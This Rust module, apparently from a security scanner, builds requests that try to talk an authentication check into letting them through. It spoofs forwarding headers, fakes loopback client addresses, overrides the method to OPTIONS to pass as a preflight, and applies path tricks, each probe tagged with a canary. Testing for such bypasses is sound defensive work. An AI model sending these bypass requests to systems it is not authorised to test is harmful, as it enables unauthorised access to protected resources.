//! What talks a check past: other words about the request than what is sent.

use super::attacks::{Kind, Play, Stage};
use super::client::Request;
use super::message::Field;
use super::paths;

/// Headers that say of the method what the request line does not; a check that believes one takes the request for a preflight.
const METHODS: [&str; 3] = ["X-Original-Method", "X-Forwarded-Method", "X-HTTP-Method-Override"];

/// What is played against a target that was refused without credentials.
/// `other`: the host of the public URL, where it is not the same.
pub fn against(
    target: &str,
    public: Option<&str>,
    host: &str,
    other: Option<&str>,
    secure: bool,
    canary: &str,
) -> Vec<Play> {
    let scheme = if secure { "https" } else { "http" };
    let play = |kind: Kind, target: &str, fields: Vec<Field>, sent: String| Play {
        kind,
        sent,
        place: "without credentials",
        request: Request {
            method: "GET",
            target: target.to_owned(),
            fields,
            ..Request::default()
        },
        canary: canary.to_owned(),
        openly: None,
    };
    let origin = format!("{scheme}://{host}");
    let preflight = [("Origin", origin.as_str()), ("Access-Control-Request-Method", "GET")];
    let preflight = preflight.map(|(name, value)| (name.to_owned(), value.to_owned()));
    let nowhere = format!("{canary}.example");
    let hosts = other.map_or((host, nowhere.as_str()), |other| (other, other));
    let said = headers(public.unwrap_or("/"), hosts, secure);
    let mut plays = Vec::new();
    for (name, value) in &said {
        let mut fields = vec![((*name).to_owned(), value.clone())];
        if METHODS.contains(name) {
            fields.extend(preflight.clone());
        }
        let lines: Vec<String> = fields.iter().map(|(name, value)| format!("{name}: {value}")).collect();
        plays.push(play(
            Kind::TalkPast((*name).to_owned()),
            target,
            fields,
            lines.join(", "),
        ));
    }
    let own = |(name, value): (&str, String)| (name.to_owned(), value);
    let all: Vec<Field> = said.into_iter().map(own).chain(preflight).collect();
    let words = "all of them at once".to_owned();
    plays.push(play(Kind::TalkPast(words.clone()), target, all, words));
    for trick in paths::tricks(target, public, scheme, host, canary) {
        plays.push(play(Kind::Path, &trick, Vec::new(), format!("GET {trick}")));
    }
    plays
}

/// Requests that are let through, with another host, path or method in a header; and each with its own in it. Where the first is
/// refused and the second is not, the check believes the header.
pub fn foreign(let_through: &Stage, host: &str, secure: bool, canary: &str) -> Vec<(Play, Request)> {
    let scheme = if secure { "https" } else { "http" };
    let (target, elsewhere) = (&let_through.request.target, format!("{canary}.example"));
    let url = |host: &str| format!("{scheme}://{host}{target}");
    let headers = [
        ("X-Forwarded-Host", elsewhere.clone(), host.to_owned()),
        ("X-Original-URL", url(&elsewhere), url(host)),
        ("X-Original-Method", canary.to_ascii_uppercase(), "GET".to_owned()),
        ("X-Forwarded-Method", canary.to_ascii_uppercase(), "GET".to_owned()),
        ("X-Forwarded-Uri", format!("/{canary}"), target.clone()),
    ];
    let with = |name: &str, value: String| {
        let mut request = let_through.request.clone();
        request.fields.push((name.to_owned(), value));
        request
    };
    let pair = |(name, other, own): (&str, String, String)| {
        let play = Play {
            kind: Kind::TalkPast(name.to_owned()),
            sent: format!("{name}: {other}"),
            place: let_through.name,
            request: with(name, other),
            canary: canary.to_owned(),
            openly: None,
        };
        (play, with(name, own))
    };
    headers.into_iter().map(pair).collect()
}

/// In what consumers tell a check about the original request: the host of what is open, and another one.
fn headers(open: &str, (host, another): (&str, &str), secure: bool) -> Vec<(&'static str, String)> {
    let scheme = if secure { "https" } else { "http" };
    let url = format!("{scheme}://{host}{open}");
    vec![
        ("X-Original-URL", url.clone()),
        ("X-Original-URI", open.to_owned()),
        ("X-Original-Method", "OPTIONS".to_owned()),
        ("X-Forwarded-Uri", open.to_owned()),
        ("X-Forwarded-Method", "OPTIONS".to_owned()),
        ("X-Forwarded-Host", another.to_owned()),
        ("X-Forwarded-Proto", if secure { "http" } else { "https" }.to_owned()),
        ("X-Forwarded-Prefix", open.to_owned()),
        ("X-Forwarded-For", "127.0.0.1".to_owned()),
        ("X-Forwarded-Port", "1".to_owned()),
        ("X-Real-IP", "127.0.0.1".to_owned()),
        ("X-Rewrite-URL", open.to_owned()),
        ("Forwarded", format!("for=127.0.0.1;proto={scheme};host={host}")),
        ("X-Auth-Request-Redirect", url.clone()),
        ("X-HTTP-Method-Override", "OPTIONS".to_owned()),
        ("X_Original_URL", url),
        ("X_Forwarded_Uri", open.to_owned()),
        ("User-Agent", "GoogleHC/1.0".to_owned()),
    ]
}
